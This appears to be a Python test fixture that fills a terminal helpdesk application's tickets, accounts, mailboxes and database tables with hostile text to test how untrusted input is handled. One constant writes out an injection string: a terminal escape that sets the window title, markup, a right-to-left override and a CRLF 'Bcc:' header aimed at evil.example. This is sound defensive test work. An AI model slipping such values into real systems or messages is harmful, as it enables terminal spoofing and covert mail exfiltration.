"""A desk where every text that people wrote, wherever it is kept, is a hostile one."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import cycle
from typing import Any

import sqlalchemy as sa
from sqlalchemy.orm import Session

from sysmo_tui.desk import Desk, Door
from sysmo_tui.domain.enums import Category, DraftKind, Role, TicketField
from sysmo_tui.models import (
    Account,
    AccountEmail,
    Audit,
    CannedResponse,
    Company,
    Entry,
    Lease,
    Mailbox,
    Outbox,
    Priority,
    Setting,
    SignIn,
    SshKey,
    Status,
    Ticket,
    TicketTag,
    TicketType,
    Token,
    Topic,
    table,
)
from sysmo_tui.services import (
    accounts,
    catalogue,
    drafts,
    editing,
    mailboxes,
    presence,
    response_upkeep,
    ssh_keys,
    tagging,
    thread,
    tickets,
)
from sysmo_tui.services.accounts import Invitation
from sysmo_tui.services.mailboxes import MailboxEdits
from sysmo_tui.services.thread import Outgoing
from tests.cast import START, Cast
from tests.hostile.corpus import LONG, SHORT
from tests.keys_of_people import bound
from tests.services import requests as ask

DESK_NAME = "Desk \x1b]0;owned\x07[/b]\u202e{0}\r\nBcc: all@evil.example"

CUSTOMER = "carla"
"""Who filed every ticket."""


@dataclass(frozen=True)
class Poisoned:
    """The people of the desk, and its tickets by the name of the text that they are made of."""

    cast: Cast
    numbers: dict[str, int]
    url: str

    @property
    def desk(self) -> Desk:
        return self.cast.desk

    @property
    def staff(self) -> Door:
        return self.cast.admin()

    @property
    def operator(self) -> Door:
        return self.cast.operator()

    @property
    def customer(self) -> Door:
        return self.cast.customer(CUSTOMER)


def poison(people: Cast, url: str) -> Poisoned:
    """Write everything that the services take, then put the rest straight into the tables."""
    staff, operator, customer = people.admin(), people.operator(), people.customer(CUSTOMER)
    numbers = {name: _ticket(staff, customer, operator, text) for name, text in SHORT.items()}
    for name, text in LONG.items():
        numbers[f"long {name}"] = ask.file(customer, f"Long {name}", text)
        ask.note(operator, numbers[f"long {name}"], text)
    for at, (name, text) in enumerate(SHORT.items()):
        _catalogue(staff, at, name)
        accounts.invite(staff, Invitation(f"guest{at}@desk.example", text[:100], Role.OPERATOR, ("general",)))
        people.customer(f"customer{at}", company=f"company {at}")
        people.topic(f"topic {at}")
        ask.file(people.customer(f"customer{at}"), text[:190], text)
        _watch(people.sign_in(CUSTOMER, source=text), number=numbers[name])
        if at < ssh_keys.MOST:
            bound(customer, f"key {at}", text[: ssh_keys.LONGEST_LABEL])
    poisoned = Poisoned(people, numbers, url)
    with people.desk.store.writing() as session:
        _overwrite(session)
    return poisoned


def _ticket(staff: Door, customer: Door, operator: Door, text: str) -> int:
    file = ask.upload(customer, b"%PDF", text[:150] + ".pdf")
    number = ask.file(customer, text[:190], text, files=(file,))
    operator.write(tickets.take, number)
    ask.reply(operator, number, text, files=(ask.upload(operator, b"%PDF", text[:150]),))
    ask.note(operator, number, text)
    ask.reply(customer, number, f"> {text}")
    operator.write(editing.edit, number, {TicketField.SUBJECT: f"{text[:180]}."})
    operator.write(editing.edit, number, {TicketField.SUBJECT: text[:190]})
    staff.write(tagging.watch, number)
    operator.write(thread.note, number, Outgoing("A file", files=(ask.upload(operator, b"x", text[:150]),)))
    operator.touch(drafts.save, number, DraftKind.REPLY, {"body": text})
    operator.touch(presence.beat, f"visit {number}", number, is_writing=True)
    return number


def _catalogue(staff: Door, at: int, name: str) -> None:
    staff.write(catalogue.new_status, f"Status {at} {name}", Category.OPEN)
    staff.write(catalogue.new_type, f"Type {at} {name}")
    staff.write(catalogue.new_priority, f"Priority {at} {name}", 1 + at % 4)
    staff.write(response_upkeep.new, f"Response {at} {name}", "Words")
    staff.write(mailboxes.new, f"box-{at}", MailboxEdits(url="imaps://desk@mail.example"))


def _watch(door: Door, number: int) -> None:
    """Use a session once, so that it is one to be shown."""
    ask.as_customer(door, number)


def _overwrite(session: Session) -> None:
    """Replace names, labels, notes, sources and errors in the tables, one text after another."""
    for model, columns in _COLUMNS.items():
        where = table(model)
        key = next(iter(where.primary_key.columns))
        for column in columns:
            found = session.execute(sa.select(key).order_by(key)).scalars().all()
            for each, text in zip(found, cycle(SHORT.values()), strict=False):
                session.execute(sa.update(where).where(key == each).values({column: text}))
    for at, (number, text) in enumerate(_one_for_each_ticket(session)):
        session.add(TicketTag(ticket_number=number, tag=text[:64]))
        session.execute(
            sa.update(table(Company))
            .where(table(Company).c.id == at + 1)
            .values(domains=[text, f"{text}.x"], tax_id=f"{text}{at}")
        )
        session.execute(
            sa.update(table(Audit))
            .where(table(Audit).c.id == at + 1)
            .values(detail={"what": text, "to": [text]})
        )
        session.execute(sa.update(table(Outbox)).where(table(Outbox).c.id == at + 1).values(failed_at=START))
    settings = table(Setting)
    session.execute(sa.update(settings).where(settings.c.name == "name").values(value=DESK_NAME))


def _one_for_each_ticket(session: Session) -> Iterator[tuple[int, str]]:
    numbers = (
        session.execute(sa.select(table(Ticket).c.number).order_by(table(Ticket).c.number)).scalars().all()
    )
    return zip(numbers, SHORT.values(), strict=False)


_COLUMNS: dict[Any, tuple[str, ...]] = {
    Account: ("name", "phone", "typed_company"),
    AccountEmail: ("address",),
    Company: ("name", "notes"),
    SignIn: ("source",),
    SshKey: ("label", "last_source"),
    Topic: ("name", "description"),
    Status: ("name", "customer_label"),
    Priority: ("name",),
    TicketType: ("name",),
    CannedResponse: ("name", "body"),
    Token: ("address",),
    Audit: ("source",),
    Lease: ("holder", "label"),
    Entry: ("author_name",),
    Outbox: ("error",),
    Mailbox: ("address", "url", "folder", "moves_to", "error"),
}
